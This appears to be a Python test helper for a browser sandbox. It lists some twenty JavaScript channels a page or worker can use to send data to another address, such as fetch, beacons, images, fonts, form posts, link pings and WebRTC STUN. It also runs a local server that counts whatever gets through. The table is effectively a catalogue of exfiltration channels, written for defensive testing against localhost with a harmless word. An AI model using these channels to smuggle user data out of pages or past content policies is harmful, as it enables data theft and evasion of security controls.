"""Every way that a page or a worker has to send words elsewhere, and somebody elsewhere who notices."""

from __future__ import annotations

import socket
import threading
from http.server import BaseHTTPRequestHandler

from serving import Server

# JavaScript by the name of the way. `there` is an address elsewhere that ends in a slash, `words` what is to be sent.
EVERYWHERE = {
    "fetch": "await fetch(there + 'fetch?' + words, { mode: 'no-cors' })",
    "fetch, as a post": "await fetch(there + 'post', { mode: 'no-cors', method: 'POST', body: words })",
    "XMLHttpRequest": "const r = new XMLHttpRequest(); r.open('POST', there + 'xhr'); r.send(words)",
    "WebSocket": "new WebSocket(there.replace('http', 'ws') + 'socket?' + words)",
    "EventSource": "new EventSource(there + 'events?' + words)",
    "import": "await import(there + 'module.js?' + words)",
}
PAGE = EVERYWHERE | {
    "sendBeacon": "navigator.sendBeacon(there + 'beacon', words)",
    "image": "new Image().src = there + 'image?' + words",
    "style sheet": "add('link', { rel: 'stylesheet', href: there + 'style?' + words })",
    "picture of a style": "document.body.style.backgroundImage = `url(${there}background?${words})`",
    "script": "add('script', { src: there + 'script?' + words })",
    "frame": "add('iframe', { src: there + 'frame?' + words })",
    "prefetch": "add('link', { rel: 'prefetch', href: there + 'prefetch?' + words })",
    "font": "await new FontFace('x', `url(${there}font?${words})`).load()",
    "video": "add('video', { src: there + 'video?' + words })",
    "object": "add('object', { data: there + 'object?' + words })",
    "form": """const form = add('form', { action: there + 'form', method: 'post', target: '_blank' });
        form.append(Object.assign(document.createElement('textarea'), { name: 'words', value: words }));
        form.submit()""",
    "ping of a link": """const link = add('a', { href: '#here', ping: there + 'ping?' + words });
        link.click()""",
    "window": "open(there + 'window?' + words)",
    "call": """const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        call.createDataChannel(words); await call.setLocalDescription()""",
}
_ADD = "const add = (tag, what) => { const made = Object.assign(document.createElement(tag), what); made.classList.add('attempt'); document.body.append(made); return made; };"


class Elsewhere:
    """A server that nobody should speak to: `heard` counts connections and datagrams. It shows a page without a policy."""

    def __init__(self) -> None:
        self.heard = 0
        self._server = Server(("127.0.0.1", 0), self._handler())
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self._server.server_port}/"
        self._calls = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._calls.bind(("127.0.0.1", 0))
        self.port = self._calls.getsockname()[1]
        threading.Thread(target=self._listen, daemon=True).start()

    def script(self, code: str, *, page: bool = True) -> str:
        """A function to evaluate: it tries, and says what came in the way."""
        names = f"const there = {self.url!r}, words = 'quetzalcoatl', port = {self.port};"
        return f"async () => {{ {names} {_ADD if page else ''} try {{ {code}; return '' }} catch (error) {{ return String(error) }} }}"

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._calls.close()

    def _listen(self) -> None:
        while self._calls.fileno() != -1:
            try:
                self._calls.recv(2000)
            except OSError:
                return
            self.heard += 1

    def _handler(elsewhere) -> type[BaseHTTPRequestHandler]:
        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = b"<!doctype html><title>Nothing here</title>"
                elsewhere.heard += self.path != "/"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_HEAD = do_OPTIONS = do_GET

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing: a failing test says enough."""

        return Handler
